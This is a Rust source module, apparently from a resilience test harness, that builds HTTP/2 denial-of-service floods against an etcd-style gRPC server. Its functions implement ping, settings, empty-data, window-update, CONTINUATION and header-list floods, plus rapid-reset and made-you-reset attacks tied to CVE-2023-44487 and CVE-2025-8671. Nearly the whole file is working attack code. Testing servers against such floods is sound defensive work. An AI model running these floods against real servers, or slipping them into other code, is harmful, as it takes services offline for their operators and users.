//! Floods of HTTP/2 frames: each cheap to send, and, if the member is careless, not to take.

use anyhow::Result;

use super::force::{Force, repeated};
use super::frames::{END_HEADERS, END_STREAM, begin, call, frame, header, kind, opening, stream};
use super::victim::{Port, Victim};

/// Connections of each flood.
const FLOODS: usize = 4;
/// What each connection sends, unless the member ends it before.
const FLOOD_BYTES: usize = 16 * 1024 * 1024;
/// About what is written at once.
const PIECE_BYTES: usize = 64 * 1024;

const WATCH: &str = "/etcdserverpb.Watch/Watch";
const RANGE: &str = "/etcdserverpb.KV/Range";

/// `first` and then this frame again and again.
async fn flood(victim: &Victim, first: Vec<u8>, frame: Vec<u8>, is_deaf: bool) -> Result<Force> {
    let mut force = Force::default();
    let piece = frame.repeat((PIECE_BYTES / frame.len()).max(1));
    for _ in 0..FLOODS {
        let pieces = repeated(piece.clone(), FLOOD_BYTES / piece.len());
        let opened = [opening(&[]), first.clone()].concat();
        force.flood(victim.connect(Port::Plain).await?, opened, pieces, is_deaf);
    }
    Ok(force)
}

/// Questions that want an answer, which nobody reads.
pub(super) async fn pings(victim: &Victim) -> Result<Force> {
    flood(victim, Vec::new(), frame(kind::PING, 0, 0, &[7; 8]), true).await
}

/// As [`pings`].
pub(super) async fn settings(victim: &Victim) -> Result<Force> {
    flood(victim, Vec::new(), frame(kind::SETTINGS, 0, 0, &[]), true).await
}

/// Frames of a call's body that hold nothing, and do not end it: RUSTSEC-2026-0258.
pub(super) async fn empty_data(victim: &Victim) -> Result<Force> {
    flood(victim, begin(1, WATCH), frame(kind::DATA, 0, 1, &[]), false).await
}

/// Room for answers, a byte at a time.
pub(super) async fn window_updates(victim: &Victim) -> Result<Force> {
    let update = frame(kind::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes());
    flood(victim, begin(1, WATCH), update, false).await
}

/// Headers that go on in frames without content: CVE-2024-27316 and its like.
pub(super) async fn continuations(victim: &Victim) -> Result<Force> {
    let first = frame(kind::HEADERS, 0, 1, &call(RANGE));
    flood(victim, first, frame(kind::CONTINUATION, 0, 1, &[]), false).await
}

/// Headers that go on and on.
pub(super) async fn header_lists(victim: &Victim) -> Result<Force> {
    let first = frame(kind::HEADERS, 0, 1, &call(RANGE));
    let more = frame(kind::CONTINUATION, 0, 1, &header("attack", &[b'a'; 8000]));
    flood(victim, first, more, false).await
}

/// Calls that are taken back at once: CVE-2023-44487.
pub(super) async fn rapid_resets(victim: &Victim) -> Result<Force> {
    const CALLS_A_PIECE: usize = 200;
    let mut force = Force::default();
    for _ in 0..FLOODS {
        let mut next = 0;
        let pieces = move || {
            let mut piece = Vec::new();
            for _ in 0..CALLS_A_PIECE {
                let stream = stream(next);
                next += 1;
                piece.extend(begin(stream, RANGE));
                // CANCEL
                piece.extend(frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
            (next * 150 < FLOOD_BYTES).then_some(piece)
        };
        force.flood(victim.connect(Port::Plain).await?, opening(&[]), pieces, false);
    }
    Ok(force)
}

/// Calls that the member itself must reset, since each is wrong: CVE-2025-8671.
pub(super) async fn made_to_reset(victim: &Victim) -> Result<Force> {
    const CALLS_A_PIECE: usize = 200;
    let mut force = Force::default();
    for _ in 0..FLOODS {
        let mut next = 0;
        let pieces = move || {
            let mut piece = Vec::new();
            for _ in 0..CALLS_A_PIECE {
                let stream = stream(next);
                next += 1;
                piece.extend(begin(stream, RANGE));
                // A window update of nothing is an error of its stream.
                piece.extend(frame(kind::WINDOW_UPDATE, 0, stream, &[0; 4]));
            }
            (next * 150 < FLOOD_BYTES).then_some(piece)
        };
        force.flood(victim.connect(Port::Plain).await?, opening(&[]), pieces, false);
    }
    Ok(force)
}

/// Requests without gRPC's headers, one after the other.
pub(super) async fn not_grpc(victim: &Victim) -> Result<Force> {
    const CALLS_A_PIECE: usize = 200;
    const CALLS: usize = 20_000;
    let block = [
        header(":method", b"GET"),
        header(":scheme", b"http"),
        header(":path", b"/version"),
        header(":authority", b"attack"),
    ]
    .concat();
    let mut next = 0;
    let pieces = move || {
        let mut piece = Vec::new();
        for _ in 0..CALLS_A_PIECE {
            piece.extend(frame(kind::HEADERS, END_HEADERS | END_STREAM, stream(next), &block));
            next += 1;
        }
        (next < CALLS).then_some(piece)
    };
    let mut force = Force::default();
    force.flood(victim.connect(Port::Plain).await?, opening(&[]), pieces, true);
    Ok(force)
}
